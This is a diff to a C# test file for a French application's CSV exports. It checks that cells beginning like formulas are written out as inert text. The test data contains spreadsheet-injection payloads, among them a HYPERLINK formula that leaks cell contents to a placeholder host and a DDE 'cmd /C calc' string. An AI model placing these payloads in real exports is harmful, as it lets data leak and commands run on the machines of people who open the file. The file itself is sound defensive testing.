@@ -1,4 +1,3 @@
-using System.Text;
 using Listes360.Api.Tests;
 using Listes360.Domain.Csv;
 using Listes360.Domain.Risk;
@@ -21,24 +20,6 @@ public sealed class Class9CsvInjectionTests(ApiFixture api)
         "=HYPERLINK(\"http://exemple.invalid/?d=\"&A1,\"Cliquez\")", "@SUM(1+1)", "+33 6 00 00 00 00+cmd", "-2+3+cmd|' /C calc'!A0", "\tTABULÉ", "\rRETOUR",
     ];
 
-    /// <summary>A cell as a spreadsheet reads it back: quoted cells unquoted (the tests' names hold no separator).</summary>
-    private static List<string> Cells(string line, char separator)
-    {
-        var cells = new List<string>();
-        var cell = new StringBuilder();
-        var quoted = false;
-        for (var i = 0; i < line.Length; i++)
-        {
-            var c = line[i];
-            if (quoted && c == '"' && i + 1 < line.Length && line[i + 1] == '"') { cell.Append('"'); i++; }
-            else if (c == '"') quoted = !quoted;
-            else if (c == separator && !quoted) { cells.Add(cell.ToString()); cell.Clear(); }
-            else cell.Append(c);
-        }
-        cells.Add(cell.ToString());
-        return cells;
-    }
-
     private static bool Runs(string cell) => cell.Length > 0 && CsvCell.FormulaStarts.Contains(cell[0]) && CsvCell.IsFormulaLike(cell);
 
     [Fact]
@@ -55,7 +36,7 @@ public sealed class Class9CsvInjectionTests(ApiFixture api)
             Assert.Contains("\"'" + name.Replace("\"", "\"\"") + "\"", text);
         foreach (var line in lines.Where(l => l.StartsWith('R')))
         {
-            var cells = Cells(line, ';');
+            var cells = Probe.Cells(line, ';');
             Assert.DoesNotContain(cells, Runs);
             Assert.Equal("'@prénom", cells[2]);
             Assert.Equal("-5", cells[7]);
@@ -66,7 +47,7 @@ public sealed class Class9CsvInjectionTests(ApiFixture api)
     public void A_risk_history_cell_starting_like_a_formula_is_written_as_text()
     {
         var row = new HistoryRow(true, "=HYPERLINK(\"http://exemple.invalid\")", new DateOnly(2026, 1, 31), new RiskSnapshot { AgeYears = 30 }, false);
-        var cells = Cells(RiskHistoryCsv.Line(row), ',');
+        var cells = Probe.Cells(RiskHistoryCsv.Line(row), ',');
         Assert.Equal(RiskHistoryCsv.Columns.Length, cells.Count);
         Assert.Equal("'=HYPERLINK(\"http://exemple.invalid\")", cells[1]);
         Assert.DoesNotContain(cells, Runs);
@@ -82,7 +63,7 @@ public sealed class Class9CsvInjectionTests(ApiFixture api)
             Assert.True(response.Status == 200, response.Body);
             var lines = response.Body.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
             Assert.True(lines.Length > 1, response.Body);
-            Assert.All(lines, l => Assert.DoesNotContain(Cells(l, ';'), Runs));
+            Assert.All(lines, l => Assert.DoesNotContain(Probe.Cells(l, ';'), Runs));
         }
     }
 
